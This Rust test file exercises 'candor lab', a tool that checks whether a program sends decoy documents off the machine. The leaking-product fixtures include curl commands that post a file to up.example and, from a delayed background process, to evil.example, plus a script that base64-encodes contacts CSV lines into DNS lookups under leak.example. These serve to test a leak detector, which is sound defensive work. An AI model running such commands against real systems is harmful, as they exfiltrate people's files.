//! `candor lab` from end to end: products that are honest, that leak, and that do not start.
#![expect(
    clippy::panic,
    reason = "a test fails by panicking, in its helping functions too"
)]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use acceptance::cli::{Ran, run as ran};
use acceptance::lab::{can_enclose, lab_program};
use serde_json::Value;

/// `candor lab`, in a folder.
fn lab(folder: &Path, arguments: &[&str]) -> Ran {
    let mut command = Command::new(lab_program("candor"));
    command.current_dir(folder).arg("lab").args(arguments);
    ran(command.stdin(Stdio::null()))
}

/// Runs a script of the shell as the product, and gives the bundle and what came of it.
fn run(folder: &Path, pairs: &str, script: &str) -> (PathBuf, Ran, Value) {
    let bundle = folder.join("a.bundle");
    let options = ["run", "-o", "a.bundle", "--json", "--pairs", pairs];
    let command = ["--", "sh", "-c", script, "product", "{documents}"];
    let ran = lab(folder, &[&options[..], &command[..]].concat());
    let answers = serde_json::from_str(&ran.out)
        .unwrap_or_else(|error| panic!("{error}: {}{}", ran.out, ran.err));
    (bundle, ran, answers)
}

fn reasons(answers: &Value) -> String {
    answers["outcome"]["reasons"].to_string()
}

#[test]
fn an_honest_command_is_seen_to_send_nothing_in_59_pairs() {
    if !can_enclose("a command that sends nothing") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let (_, ran, answers) = run(folder.path(), "59", "sha256sum \"$1\"/* >/dev/null");
    assert_eq!(ran.code, Some(0), "{}", reasons(&answers));
    assert_eq!(answers["outcome"]["verdict"], "no-flow-seen");
    let (_, ran, answers) = run(folder.path(), "1", "sha256sum \"$1\"/* >/dev/null");
    assert_eq!(ran.code, Some(2), "{}", reasons(&answers));
    assert!(
        reasons(&answers).contains("too few"),
        "{}",
        reasons(&answers)
    );
}

#[test]
fn a_document_that_is_sent_is_named() {
    if !can_enclose("a command that sends a document") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    for url in ["http://up.example/", "https://up.example/"] {
        let script = format!(
            "curl --silent --show-error --data-binary @\"$(echo \"$1\"/minutes-*.txt | cut -d' ' -f1)\" {url}"
        );
        let (_, ran, answers) = run(folder.path(), "1", &script);
        assert_eq!(ran.code, Some(1), "{url}: {}", reasons(&answers));
        let hit = &answers["collects"]["canaries"]["value"][0];
        assert!(
            hit["document"]
                .as_str()
                .is_some_and(|name| name.starts_with("minutes-")),
            "{hit}"
        );
    }
}

#[test]
fn what_a_background_process_sends_later_is_found() {
    if !can_enclose("a command that leaves a process behind") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let script = "cat \"$1\"/* >/dev/null; (sleep 2; \
         curl -s --data-binary @\"$(ls \"$1\"/minutes-*.txt | head -1)\" http://evil.example/) \
         >/dev/null 2>&1 &";
    let (_, ran, answers) = run(folder.path(), "1", script);
    assert_eq!(ran.code, Some(1), "{}", reasons(&answers));
}

#[test]
fn a_damaged_bundle_is_told_though_messages_go_to_a_file() {
    let folder = tempfile::tempdir().expect("a folder");
    fs::write(folder.path().join("a.bundle"), [7; 4096]).expect("a bundle");
    let said = fs::File::create(folder.path().join("said")).expect("a file");
    let status = Command::new(lab_program("candor"))
        .current_dir(folder.path())
        .args(["lab", "report", "a.bundle"])
        .stdin(Stdio::null())
        .stderr(said)
        .status();
    assert_eq!(status.expect("it runs").code(), Some(2));
    let said = fs::read_to_string(folder.path().join("said")).expect("what it said");
    assert!(!said.contains("139") && said.lines().count() > 1, "{said}");
}

#[test]
fn a_missing_command_is_told_with_the_remedy() {
    if !can_enclose("no command") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let ran = lab(folder.path(), &["run", "-o", "a.bundle"]);
    assert_eq!(ran.code, Some(2), "{ran:?}");
    assert!(ran.err.contains("-- COMMAND {documents}"), "{}", ran.err);
}

#[test]
fn a_document_that_leaves_by_names_is_found() {
    if !can_enclose("a command that asks for names") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let script = "for word in $(tail -n 3 \"$1\"/contacts-*.csv | base64 -w 40 | tr -d =+/); do \
         getent hosts $word.leak.example; done >/dev/null";
    let (_, ran, answers) = run(folder.path(), "1", script);
    assert_eq!(ran.code, Some(1), "{}", reasons(&answers));
    assert!(
        reasons(&answers).contains("base64"),
        "{}",
        reasons(&answers)
    );
}

#[test]
fn words_that_hold_no_secret_are_not_conclusive() {
    if !can_enclose("a command that sends the same each time") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let script = "ls \"$1\" >/dev/null; curl --silent --data same http://up.example/ >/dev/null";
    let (_, ran, answers) = run(folder.path(), "2", script);
    assert_eq!(ran.code, Some(2), "{}", reasons(&answers));
    let endpoints = answers["collects"]["endpoints"].to_string();
    assert!(endpoints.contains("up.example"), "{endpoints}");
}

#[test]
fn a_command_that_does_not_start_is_not_conclusive_and_told() {
    if !can_enclose("a command that does not start") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let words = [
        "run",
        "-o",
        "a.bundle",
        "--",
        "no-such-scanner",
        "{documents}",
    ];
    let ran = lab(folder.path(), &words);
    assert_eq!(ran.code, Some(2), "{ran:?}");
    assert!(
        ran.err.contains("no-such-scanner can't be started"),
        "{}",
        ran.err
    );
    let ran = lab(folder.path(), &["run", "-o", "b.bundle", "--", "true"]);
    assert_eq!(ran.code, Some(2), "{ran:?}");
    assert!(ran.err.contains("put {documents} where"), "{}", ran.err);
    assert!(!folder.path().join("b.bundle").exists());
}

#[test]
fn the_answers_are_computed_again_and_a_bundle_that_was_changed_is_refused() {
    if !can_enclose("answers from a bundle") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let script = "cat \"$1\"/* >/dev/null; echo new >/etc/new; echo telltale";
    let (bundle, ran, _) = run(folder.path(), "1", script);
    let again = lab(folder.path(), &["report", "--json", "a.bundle"]);
    assert_eq!(
        (again.code, &again.out),
        (ran.code, &ran.out),
        "{}",
        again.err
    );
    let page = lab(folder.path(), &["report", "--html", "a.html", "a.bundle"]);
    assert_eq!(page.code, ran.code, "{}", page.err);
    let page = fs::read_to_string(folder.path().join("a.html")).expect("a page");
    assert!(page.contains("<html") && !page.contains("<script"));
    let mut bytes = fs::read(&bundle).expect("the bundle");
    let place = bytes
        .windows(8)
        .position(|part| part == b"telltale")
        .expect("the output");
    bytes[place] ^= 1;
    fs::write(&bundle, bytes).expect("the bundle can be changed");
    let refused = lab(folder.path(), &["report", "a.bundle"]);
    assert_eq!(refused.code, Some(2), "{refused:?}");
    assert!(
        refused.out.is_empty() && !refused.err.is_empty(),
        "{refused:?}"
    );
}

#[test]
fn an_interrupt_leaves_nothing_behind() {
    if !can_enclose("an interrupted recording") {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let mut child = Command::new(lab_program("candor"))
        .current_dir(folder.path())
        .args([
            "lab",
            "run",
            "-o",
            "a.bundle",
            "--",
            "sh",
            "-c",
            "sleep 600",
            "s",
            "{documents}",
        ])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("it starts");
    std::thread::sleep(Duration::from_secs(2));
    let recorder = children_of(child.id());
    assert_eq!(recorder.len(), 1, "one recorder");
    // As a service manager does it: to candor alone.
    let status = Command::new("kill").arg(child.id().to_string()).status();
    assert!(status.expect("kill runs").success());
    let deadline = Instant::now() + Duration::from_secs(20);
    let status = loop {
        match child.try_wait().expect("it can be waited for") {
            Some(status) => break status,
            None => assert!(Instant::now() < deadline, "it goes on"),
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(status.code(), Some(2));
    let left: Vec<_> = fs::read_dir(folder.path())
        .expect("a folder")
        .flatten()
        .collect();
    assert!(left.is_empty(), "{left:?}");
    for process in recorder {
        let path = format!("/proc/{process}");
        assert!(!Path::new(&path).exists(), "the recorder goes on");
    }
}

fn children_of(parent: u32) -> Vec<u32> {
    let path = format!("/proc/{parent}/task/{parent}/children");
    let list = fs::read_to_string(path).unwrap_or_default();
    list.split_whitespace()
        .filter_map(|one| one.parse().ok())
        .collect()
}
